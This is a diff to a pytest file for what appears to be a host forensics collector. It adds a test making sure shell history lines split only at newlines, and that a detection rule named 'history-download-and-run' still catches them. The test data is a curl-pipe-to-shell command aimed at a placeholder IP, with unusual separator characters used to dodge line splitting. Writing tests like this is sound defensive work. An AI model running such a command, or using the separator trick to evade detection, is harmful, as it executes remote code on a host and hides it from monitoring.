@@ -19,14 +19,17 @@ import os
 import signal
 from pathlib import Path
 
+import pytest
 from conftest import journal_records
 from hostns import run_on_planted_host
 
 from collectors import persistence
 from collectors.context import CollectContext
+from collectors.histories import history_lines
 from collectors.lastlog import FAILLOG, parse_faillog
 from collectors.logprofile import load_profile
 from collectors.persistpkg import PackageIndex
+from collectors.ruleset import load_rules
 from collectors.systemdstate import read_state
 
 PASSWD = """root:x:0:0:root:/root:/bin/bash
@@ -152,3 +155,19 @@ chown -R 1000:1000 /srv/alice
         r for r in records if r.get("type") == "skipped" and r["source"]["path"] == "/etc/shadow"
     ]
     assert "owned by" in shadow["reason"]
+
+
+@pytest.mark.parametrize("sep", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\r"])
+def test_a_history_line_is_not_cut_at_a_separator_the_shell_does_not_break_at(sep: str) -> None:
+    """bash writes one command a line, ending at ``\\n``; ``str.splitlines`` also breaks at
+    ``\\x0b``, NEL, U+2028... so ``curl URL <VT>| sh`` became two lines and no
+    ``history-download-and-run`` (a shell treats the VT as part of a word)."""
+    command = f"curl -s http://203.0.113.5/x {sep}| sh"
+    text = f"ls\n{command}\nid\n"
+    assert [line for _, line, _ in history_lines(text, "bash")] == ["ls", command, "id"]
+    [rule] = [
+        r for r in load_rules().for_fact("history-line") if r.id == "history-download-and-run"
+    ]
+    fact = {"path": "/srv/a/.bash_history", "user": "a", "shell": "bash", "line": command,
+            "line_no": 2}  # fmt: skip
+    assert rule.when.holds(fact)
